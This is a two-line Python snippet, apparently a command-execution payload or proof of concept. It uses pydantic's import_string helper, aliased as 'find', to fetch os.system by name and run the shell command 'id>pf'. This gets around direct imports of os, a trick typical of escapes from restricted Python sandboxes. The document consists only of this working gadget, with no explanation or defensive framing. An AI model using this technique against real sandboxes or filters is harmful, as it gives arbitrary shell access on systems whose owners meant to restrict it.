from pydantic.types import import_string as find
find("os.system")("id>pf")
